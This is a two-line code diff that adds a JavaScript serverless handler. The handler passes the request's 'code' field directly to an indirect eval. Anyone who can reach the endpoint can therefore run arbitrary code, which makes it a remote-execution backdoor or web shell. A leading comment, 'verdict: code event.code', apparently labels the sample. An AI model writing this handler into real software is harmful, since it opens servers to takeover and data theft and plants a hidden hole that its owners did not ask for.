@@ -1,0 +1,2 @@
+// verdict: code event.code
+exports.handler=async (event)=>(0,eval)(event.code);
